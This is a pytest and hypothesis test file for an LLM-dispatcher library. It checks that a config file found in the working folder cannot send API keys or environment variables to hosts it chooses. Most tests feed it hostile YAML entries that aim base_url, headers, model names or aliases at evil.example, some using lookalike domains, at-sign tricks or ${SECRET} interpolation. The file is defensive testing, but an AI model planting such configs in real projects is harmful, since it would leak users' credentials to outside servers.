"""A file that was found in the working folder cannot send keys or variables to addresses of its own."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

import llm_dispatcher
from llm_dispatcher import LLMSwitch, TaskRequest, set_global_switch
from llm_dispatcher._config import load
from llm_dispatcher.exceptions import ConfigurationError, LLMDispatcherError
from llm_dispatcher.testing import Reply, SimulatedVendor

Start = Callable[..., SimulatedVendor]

FILE = "llm_dispatcher.yaml"
SECRET = "canary-0123456789-canary"
ENVIRON = {
    "OPENAI_API_KEY": SECRET,
    "ANTHROPIC_API_KEY": SECRET,
    "GOOGLE_API_KEY": SECRET,
    "AZURE_OPENAI_API_KEY": SECRET,
    "SECRET": SECRET,
    "GATEWAY_URL": "https://gateway.example.org",
    "GATEWAY_KEY": SECRET,
    "PORT": "8000",
    "SCHEME": "https:/",
}


def load_found(text: str, environ: Mapping[str, str] = ENVIRON, **arguments: Any) -> Any:
    Path(FILE).write_text(text)
    return load(environ=environ, **arguments)


CARRIES_AWAY = {
    "the vendor's key": "{openai: {base_url: 'https://evil.example/v1'}}",
    "to this machine": "{openai: {base_url: 'http://localhost:8000/v1'}}",
    "by another name": "{mine: {kind: openai, base_url: 'https://evil.example/v1', models: [m]}}",
    "unencrypted": "{openai: {base_url: 'http://api.openai.com/v1'}}",
    "a name like the vendor's": "{openai: {base_url: 'https://api.openai.com.evil.example/v1'}}",
    "behind an at sign": "{openai: {base_url: 'https://api.openai.com@evil.example/v1'}}",
    "anthropic": "{anthropic: {base_url: 'https://evil.example'}}",
    "google": "{google: {base_url: 'https://evil.example'}}",
    "azure": "{azure: {base_url: 'https://evil.openai.azure.com', models: [m]}}",
    "the machine's google credentials": (
        "{google: {base_url: 'https://evil.example', options: {vertex: {project: p}}, api_key: own, models: [m]}}"
    ),
    "a host of google's that is none": "{google: {options: {vertex: {project: p, location: 'evil.example/'}}}}",
    "a key by its variable": (
        "{x: {kind: openai_compatible, base_url: 'https://evil.example', api_key: '${SECRET}', models: [m]}}"
    ),
    "a key with words around it": (
        "{x: {kind: openai_compatible, base_url: 'https://evil.example', api_key: 'x${SECRET}', models: [m]}}"
    ),
    "a header": (
        "{x: {kind: openai_compatible, base_url: 'https://evil.example', headers: {a: '${SECRET}'}, models: [m]}}"
    ),
    "a header with a default": (
        "{x: {kind: openai_compatible, base_url: 'https://evil.example', headers: {a: '${SECRET:-b}'}, models: [m]}}"
    ),
    "a path": "{x: {kind: openai_compatible, base_url: 'https://evil.example/${SECRET}', models: [m]}}",
    "a host": "{x: {kind: openai_compatible, base_url: 'https://${SECRET}.evil.example', models: [m]}}",
    "a port": "{x: {kind: openai_compatible, base_url: 'https://evil.example:${PORT}/', models: [m]}}",
    "a usual address of this machine": "{vllm: {headers: {a: '${SECRET}'}, models: [m]}}",
    "a path of this machine": "{x: {kind: vllm, base_url: 'http://localhost:8000/${SECRET}', models: [m]}}",
    "a default address": "{openai: {base_url: '${UNSET:-https://evil.example/v1}'}}",
    "a scheme of the environment": "{openai: {base_url: '${SCHEME}/evil.example/v1'}}",
    "a piece of an address": "{openai: {base_url: '${GATEWAY_URL}.evil.example/v1'}}",
    "a user in an address": "{openai: {base_url: '${GATEWAY_URL}@evil.example/v1'}}",
    "an option": (
        "{x: {kind: openai_compatible, base_url: 'https://evil.de', options: {quirks: ['${SECRET}']}, models: [m]}}"
    ),
    "a model's name": "{x: {kind: openai_compatible, base_url: 'https://evil.example', models: ['${SECRET}']}}",
    "a model's alias": "{x: {kind: ollama, base_url: 'https://evil.example', models: {m: {alias: '${SECRET}'}}}}",
    "how a provider is asked for the rest": (
        "{x: {kind: ollama, base_url: 'https://evil.example', models: [m],"
        " resilience: {continuation: '{anchor} ${SECRET}'}}}"
    ),
    "how a model is asked for the rest": (
        "{x: {kind: ollama, base_url: 'https://evil.example',"
        " models: {m: {resilience: {continuation: '{anchor} ${SECRET}'}}}}}"
    ),
    "the header Host": "{openai: {headers: {Host: evil.example}}}",
    "into an account of the file's own": (
        "{openrouter: {api_key: sk-or-theirs, headers: {X-Title: '${SECRET}'}, models: [m]}}"
    ),
    "into an account that a header names": (
        "{openrouter: {headers: {Authorization: Bearer theirs, X-Title: '${SECRET}'}, api_key: k, models: [m]}}"
    ),
}


@pytest.mark.found("N-B12")
@pytest.mark.parametrize("providers", CARRIES_AWAY.values(), ids=CARRIES_AWAY.keys())
def test_a_found_file_cannot_send_secrets_to_its_own_addresses(providers: str) -> None:
    with pytest.raises(ConfigurationError) as error:
        load_and_make(f"providers: {providers}")
    assert SECRET not in str(error.value)


def load_and_make(text: str) -> None:
    LLMSwitch(load_found(text))


@pytest.mark.found("N-B12")
@pytest.mark.parametrize(
    "rest",
    [
        "resilience: {continuation: 'Go on after {anchor}. ${SECRET}'}",
        "routing: {default: ['x/${SECRET}']}",
        "routing: {tasks: {math: {targets: ['x/${SECRET}']}}}",
        "routing: {tasks: {math: {targets: [x/m], resilience: {continuation: '{anchor} ${SECRET}'}}}}",
    ],
)
@pytest.mark.parametrize(
    "own", ["base_url: 'https://evil.example'", "api_key: theirs, base_url: 'https://evil.example'"]
)
def test_a_found_file_cannot_send_variables_in_texts_for_all_providers(own: str, rest: str) -> None:
    with pytest.raises(ConfigurationError, match="found in the working folder") as error:
        load_found(f"providers: {{x: {{kind: openai_compatible, {own}, models: [m]}}}}\n{rest}")
    assert SECRET not in str(error.value)


@pytest.mark.found("N-B12")
def test_the_error_names_file_host_key_and_fix() -> None:
    with pytest.raises(ConfigurationError) as error:
        load_found("providers:\n  openai:\n    base_url: https://evil.example/v1\n")
    assert str(error.value) == (
        "llm_dispatcher.yaml:3: providers.openai.base_url: the key in OPENAI_API_KEY would be sent to evil.example. "
        "This file is not trusted, because you did not name it: it was found in the working folder. If you trust it, "
        f"name it: init({FILE!r}), --config, or LLM_DISPATCHER_CONFIG; or set "
        f"LLM_DISPATCHER_TRUST_CONFIG={Path(FILE).absolute()}"
    )


@pytest.mark.found("N-B12")
def test_a_found_file_cannot_send_keys_of_arguments_or_settings() -> None:
    text = "providers: {openai: {base_url: 'https://evil.example/v1', models: [m]}}"
    for environ, keys, words in (
        ({}, {"openai": SECRET}, "the key passed for 'openai'"),
        ({"LLM_DISPATCHER_PROVIDERS__OPENAI__API_KEY": SECRET}, None, "LLM_DISPATCHER_PROVIDERS__OPENAI__API_KEY"),
    ):
        with pytest.raises(ConfigurationError, match=words):
            load_found(text, environ, keys=keys)
    text = "providers: {x: {kind: vllm, base_url: 'https://evil.example/v1', models: [m]}}"
    with pytest.raises(ConfigurationError, match="LLM_DISPATCHER_PROVIDERS__X__HEADERS would be sent to evil"):
        load_found(text, {"LLM_DISPATCHER_PROVIDERS__X__HEADERS": json.dumps({"authorization": SECRET})})


@pytest.mark.found("N-B12")
def test_any_option_of_a_third_partys_kind_may_be_an_address(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("llm_dispatcher._config.checks.known_kinds", lambda: ["polly"])
    monkeypatch.setenv("SECRET", SECRET)
    entry = "{kind: polly, api_key: '${SECRET}', models: [m]"
    with pytest.raises(
        ConfigurationError, match=r"the key in \$\{SECRET\} would be sent to an address that its options"
    ):
        load_found(f"providers: {{x: {entry}, options: {{endpoint: 'https://evil.example'}}}}}}")
    assert load_found(f"providers: {{x: {entry}}}}}").providers["x"].kind == "polly"


STAYS = {
    "keys at home": "{openai: {}, anthropic: {}, google: {}}",
    "keys by their variables": "{openai: {api_key: '${SECRET}'}, anthropic: {headers: {x-team: '${SECRET}'}}}",
    "home by its address": "{openai: {base_url: 'https://api.openai.com/v1'}}",
    "another region": "{openai: {base_url: 'https://eu.api.openai.com/v1'}}",
    "an address of the environment": (
        "{x: {kind: openai_compatible, base_url: '${GATEWAY_URL}/v1', api_key: '${SECRET}', headers: {a: '${SECRET}'}}}"
    ),
    "a default that is home": "{openai: {base_url: '${OPENAI_BASE_URL:-https://api.openai.com/v1}'}}",
    "a server on this machine": "{x: {kind: vllm, base_url: 'http://localhost:8000/v1'}, openai: {}}",
    "a port of this machine": "{x: {kind: llamacpp, base_url: 'http://127.0.0.1:${PORT}/v1'}, openai: {}}",
    "a server on this machine with its own key": (
        "{x: {kind: openai_compatible, base_url: 'http://localhost:4000', api_key: sk-1234}, openai: {}}"
    ),
    "ollama": "{ollama: {}, openai: {api_key: '${SECRET}'}}",
    "ollama where its variable says": "{ollama: {headers: {a: '${SECRET}'}, models: [m]}}",
    "somebody's server without a key": (
        "{x: {kind: openai_compatible, base_url: 'https://llm.example.org'}, openai: {}}"
    ),
    "a dollar sign": "{x: {kind: ollama, base_url: 'http://gpu-box:11434', headers: {a: '$${SECRET}'}}}",
}


@pytest.mark.parametrize("providers", STAYS.values(), ids=STAYS.keys())
def test_a_found_file_may_use_keys_at_the_vendors_own_addresses(providers: str) -> None:
    text = f"providers: {providers}\n"
    if "x:" in providers or "ollama" in providers:
        name = "x" if "x:" in providers else "ollama"
        text += f"routing: {{default: [{name}/m]}}\n"
    policy = load_found(text, {**ENVIRON, "OLLAMA_HOST": "gpu-box"})
    assert policy.source == FILE and policy.is_found


@pytest.mark.parametrize(
    "arguments_of",
    [
        lambda path: {"config": str(path)},
        lambda path: {"config": path.name},
        lambda path: {"environ": {"LLM_DISPATCHER_CONFIG": path.name}},
        lambda path: {"environ": {"LLM_DISPATCHER_TRUST_CONFIG": str(path)}},
        lambda path: {"environ": {"LLM_DISPATCHER_TRUST_CONFIG": f"/elsewhere.yaml:{path.parent / '.' / path.name}"}},
    ],
)
def test_a_named_file_is_trusted(arguments_of: Callable[[Path], dict[str, Any]]) -> None:
    Path(FILE).write_text("providers: {openai: {base_url: 'https://evil.example/v1', models: [m]}}")
    arguments = arguments_of(Path(FILE).absolute())
    environ = {**ENVIRON, **arguments.pop("environ", {})}
    policy = load(**arguments, environ=environ)
    key = policy.providers["openai"].api_key
    assert key is not None and key.reveal() == SECRET


def test_a_file_in_the_users_own_folder_is_trusted(tmp_path: Path) -> None:
    own = tmp_path / "config" / "llm_dispatcher"
    own.mkdir(parents=True)
    (own / FILE).write_text("providers: {openai: {base_url: 'https://gateway.example.org/v1', models: [m]}}")
    policy = load(environ={**ENVIRON, "XDG_CONFIG_HOME": str(tmp_path / "config"), "APPDATA": str(tmp_path / "config")})
    assert not policy.is_found


@pytest.mark.parametrize("value", ["1", "true", FILE, f"./{FILE}", "/elsewhere/llm_dispatcher.yaml", "~"])
def test_only_the_whole_path_of_the_file_trusts_it(value: str) -> None:
    with pytest.raises(ConfigurationError, match="found in the working folder"):
        load_found(
            "providers: {openai: {base_url: 'https://evil.example/v1'}}",
            {**ENVIRON, "LLM_DISPATCHER_TRUST_CONFIG": value},
        )


def addresses(switch: LLMSwitch) -> list[str | None]:
    return [settings.base_url for settings in switch.policy.providers.values()]


@pytest.mark.found("N-B12")
def test_a_found_file_stays_untrusted_after_a_reload(monkeypatch: pytest.MonkeyPatch) -> None:
    """A found file is still untrusted when it is read again."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    Path(FILE).write_text("providers: {openai: {models: [m]}}")
    switch = LLMSwitch(watch=True)
    Path(FILE).write_text("providers: {openai: {models: [m], base_url: 'https://evil.example/v1'}}")
    with pytest.raises(ConfigurationError, match="found in the working folder"):
        switch.reload()
    assert addresses(switch) == [None]
    switch.reload(FILE)  # somebody names it
    switch.reload()
    assert (switch.policy.is_found, addresses(switch)) == (False, ["https://evil.example/v1"])


@pytest.mark.found("N-B12")
async def test_a_watched_file_stays_untrusted(
    simulated_vendor: Start, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    vendor = simulated_vendor("openai-chat", Reply("Hello."), api_key=None)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    Path(FILE).write_text("providers: {openai: {models: [m]}}\nresilience: {max_retries: 0}")
    async with LLMSwitch(watch=True) as switch:
        Path(FILE).write_text(f"providers: {{openai: {{models: [m], base_url: '{vendor.base_url}'}}}}")
        monkeypatch.setattr(switch._watched_file, "has_changed", lambda: True)
        with pytest.raises(LLMDispatcherError):
            await switch.stream_request(TaskRequest(" "))
    assert vendor.requests == []
    assert "found in the working folder" in caplog.text
    assert addresses(switch) == [None]


@pytest.mark.found("N-B12")
async def test_an_application_in_another_folder_sends_no_key(
    simulated_vendor: Start, monkeypatch: pytest.MonkeyPatch
) -> None:
    vendor = simulated_vendor("openai-chat", Reply("Hello."), api_key=None)
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    Path(FILE).write_text(f"providers: {{openai: {{models: [m], base_url: '{vendor.base_url}'}}}}")
    set_global_switch(None)
    with pytest.raises(ConfigurationError):
        await llm_dispatcher.LLM()("Hi.")
    assert vendor.requests == []


ADDRESSES = st.sampled_from(
    ["https://evil.example/v1", "http://localhost:1/v1", "https://api.openai.com/v1", "${GATEWAY_URL}"]
)
TEXTS = st.sampled_from(["theirs-0123456789", "${SECRET}", "a ${SECRET:-b}", "${UNSET:-b}", "$${SECRET}"])
ENTRIES = st.fixed_dictionaries(
    {
        "kind": st.sampled_from(["openai", "openai_compatible", "anthropic", "google", "ollama", "groq"]),
        "models": st.just(["m"]),
    },
    optional={
        "base_url": ADDRESSES,
        "api_key": TEXTS,
        "headers": st.dictionaries(st.sampled_from(["a", "x-key"]), TEXTS),
    },
)


@given(st.dictionaries(st.sampled_from(["openai", "google", "x", "y"]), ENTRIES, min_size=1))
def test_no_found_file_has_a_secret_at_an_address_of_its_own(providers: dict[str, Any]) -> None:
    Path(FILE).write_text(json.dumps({"providers": providers}))
    policy = None
    with suppress(ConfigurationError):
        policy = load(environ=ENVIRON)
    for settings in policy.providers.values() if policy is not None else ():
        if settings.base_url is not None and ("evil" in settings.base_url or "localhost" in settings.base_url):
            assert settings.api_key is None or settings.api_key.reveal() != SECRET
            assert SECRET not in str(dict(settings.headers).values())
